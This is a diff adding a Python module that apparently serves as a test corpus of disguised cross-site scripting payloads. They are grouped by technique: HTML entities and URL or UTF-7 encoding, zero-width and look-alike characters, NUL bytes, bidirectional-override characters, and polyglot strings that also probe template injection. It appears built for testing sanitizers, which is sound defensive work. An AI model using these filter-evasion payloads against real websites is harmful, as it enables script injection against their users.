@@ -1,0 +1,63 @@
+"""Attacks in disguise: entities, odd characters, wrong order of reading, many tongues at once."""
+
+FAMILIES: dict[str, list[str]] = {
+    "entities": [
+        "&lt;script&gt;alert(1)&lt;/script&gt;",
+        "&#60;img src=x onerror=alert(1)&#62;",
+        "&#x3c;script&#x3e;alert(1)&#x3c;/script&#x3e;",
+        "&#0000060script&#0000062alert(1)",
+        "&ltscript&gtalert(1)&lt/script&gt",
+        "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
+        "&amp;#60;script&amp;#62;alert(1)",
+        "&quot;&gt;&lt;svg onload=alert(1)&gt;",
+        "&NotEqualTilde;&lt;svg/onload=alert(1)&gt;&nbsp;&#0;&#xD800;&#x110000;",
+        "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
+        "%3Cscript%3Ealert(1)%3C/script%3E",
+        "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
+    ],
+    "odd characters": [
+        "<scr\x01ipt>alert(1)</scr\x01ipt>",
+        "<\u200bscript>alert(1)</\u200bscript>",
+        "<img\u00a0src=x\u00a0onerror=alert(1)>",
+        "<img\x0bsrc=x\x0bonerror=alert(1)>",
+        "<img\x0csrc=x\x0conerror=alert(1)>",
+        "<img\u2028src=x\u2028onerror=alert(1)>",
+        "<ıframe src=javascript:alert(1)>",
+        "<ſcript>alert(1)</ſcript>",
+        "＜script＞alert(1)＜/script＞",
+        "‹script›alert(1)‹/script›",
+        "<\u0338script>alert(1)</script>",
+        "<img src=x \ufeffonerror=alert(1)>",
+        "\ufffe<script>alert(1)</script>\uffff",
+        "<svg\u3000onload=alert(1)>",
+        "<ſvg onload=alert(1)>\U000e0001",
+        "\x1b[31m<script>alert(1)</script>\x1b[0m\x07\x08",
+    ],
+    "NUL and half characters": [
+        "<scr\x00ipt>alert(1)</scr\x00ipt>",
+        "<img src=x onerror\x00=alert(1)>",
+        "java\x00script:alert(1)",
+        "\ud83d<script>alert(1)</script>",
+        "<img src=x onerror=alert(1) \udc00>",
+    ],
+    "order of reading": [
+        "\u202e<script>alert(1)</script>",
+        "\u202e>tpircs/<)1(trela>tpircs<",
+        "a\u202eb\u2066c\u2067d",
+        "\u2067<img src=x onerror=alert(1)>\u2069",
+        "\u200f\u200e\u061c<svg onload=alert(1)>",
+        "Z\u0351\u0325\u0326a\u0334\u0335l\u0336g\u0337o<script>alert(1)</script>",
+    ],
+    "many tongues": [
+        "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert() )//%0D%0A%0d%0a//</stYle/</titLe/"
+        "</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert(1)//>\\x3e",
+        "\"'--></style></script></title></textarea></noscript><svg/onload=alert(1)>",
+        "'\"><img src=x onerror=alert(1)>{{7*7}}${7*7}<%= 7*7 %>",
+        "javascript:\"/*'/*`/*--></noscript></title></textarea></style></template></noembed>"
+        "</script><img src=x onerror=alert(1)>",
+        "<!--`<img/src=`` onerror=alert(1)``>-->",
+        "*/alert(1)/*\"'><svg onload=alert(1)>[x](javascript:alert(1))",
+        "]]>--></textarea><a href=javascript:alert(1)>x</a><b/onclick=alert(1)>",
+        "`'\"><\x01img src=x onerror=alert(1)>",
+    ],
+}
